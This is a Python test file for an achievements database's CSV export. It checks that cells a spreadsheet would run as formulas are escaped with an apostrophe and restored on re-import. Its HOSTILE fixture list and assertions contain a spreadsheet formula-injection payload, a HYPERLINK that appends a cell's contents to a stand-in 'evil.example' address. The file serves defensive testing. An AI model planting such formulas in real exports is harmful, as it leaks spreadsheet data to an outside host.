"""A cell that a spreadsheet would run as a formula leaves a CSV export as text (security issue #16, item 4).

Someone types ``=HYPERLINK("http://evil/?"&A1,"点击")`` as an achievement's name; an official exports the table
to CSV and opens it in Excel or WPS, which would run it. The CSV writer puts an apostrophe before any cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (what spreadsheets read as the start of a
formula); reading the CSV back takes it off again, so export → import restores the original text exactly.
"""

from __future__ import annotations

import csv
from pathlib import Path

from sqlalchemy import Engine, select
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from xiaodi.catalog.models import Achievement
from xiaodi.core.audit import Actor
from xiaodi.tables import export_file, get_table, import_file
from xiaodi.tables.cli import make_app
from xiaodi.tables.readers import read_all
from xiaodi.tables.writers import open_writer

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+86 351 7010000 实验室",
    "-40℃ 低温钢焊接",
    "@SUM(A1:A9)",
    "'=已有撇号的公式",
    "'单撇号开头的名称",
    "''双撇号",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _rows_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _import_names(engine: Engine, actor: Actor, path: Path, names: list[str]) -> None:
    """Achievements named ``names`` (and noted so), typed into an .xlsx table, where no cell is a formula."""
    spec = get_table("achievements")
    headers = [c.header for c in spec.columns]
    writer = open_writer(path.with_suffix(".xlsx"), spec)
    for name in names:
        cells = {"成果名称": name, "所属单位": "山西大学", "备注": name}
        row = [cells.get(h) for h in headers]
        writer.write_row(row)
    writer.close()
    import_file(engine, "achievements", path.with_suffix(".xlsx"), actor=actor)


def _names(engine: Engine) -> set[str]:
    with Session(engine) as s:
        return set(s.scalars(select(Achievement.title)))


def test_no_exported_cell_starts_a_formula(db_engine: Engine, actor: Actor, tmp_path: Path) -> None:
    _import_names(db_engine, actor, tmp_path / "in.csv", HOSTILE)
    exported = tmp_path / "out.csv"
    export_file(db_engine, "achievements", exported)
    cells = [cell for row in _rows_of(exported)[1:] for cell in row]
    assert cells and not [c for c in cells if c.startswith(STARTS)]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"点击查看")' in cells
    assert "'-40℃ 低温钢焊接" in cells


def test_export_then_import_restores_the_original_text(db_engine: Engine, actor: Actor, tmp_path: Path,
                                                       fresh_engine) -> None:  # type: ignore[no-untyped-def]
    _import_names(db_engine, actor, tmp_path / "in.csv", HOSTILE)
    assert set(HOSTILE) <= _names(db_engine)
    exported = tmp_path / "out.csv"
    n = export_file(db_engine, "achievements", exported)

    again = import_file(db_engine, "achievements", exported, actor=actor)
    assert (again.created, again.updated, again.unchanged) == (0, 0, n)  # nothing read differently
    other = fresh_engine("empty.db")
    import_file(other, "achievements", exported, actor=actor)
    assert _names(other) == _names(db_engine)


def test_tabs_and_carriage_returns_are_neutralised_too(tmp_path: Path) -> None:
    path = tmp_path / "raw.csv"
    spec = get_table("achievements")
    writer = open_writer(path, spec)
    writer.write_row(["\t=1+1", "\r=2+2", "-", "普通名称", *([None] * (len(spec.columns) - 4))])
    writer.close()
    first = _rows_of(path)[1]
    assert first[:4] == ["'\t=1+1", "'\r=2+2", "'-", "普通名称"]
    assert read_all(path)[1][:4] == ["\t=1+1", "\r=2+2", "-", "普通名称"]


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    """A negative amount is a number, not text a formula could hide in: it is written as it is."""
    path = tmp_path / "numbers.csv"
    spec = get_table("achievements")
    writer = open_writer(path, spec)
    writer.write_row([-12.5, -3, *([None] * (len(spec.columns) - 2))])
    writer.close()
    assert _rows_of(path)[1][:2] == ["-12.5", "-3"]


def test_the_cli_export_is_neutralised(db_engine: Engine, actor: Actor, tmp_path: Path) -> None:
    _import_names(db_engine, actor, tmp_path / "in.csv", HOSTILE[:1])
    out = tmp_path / "成果.csv"
    result = CliRunner().invoke(make_app(lambda _url: db_engine), ["export", "achievements", str(out)])
    assert result.exit_code == 0, result.output
    assert _rows_of(out)[1][:2] == ['\'=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "山西大学"]
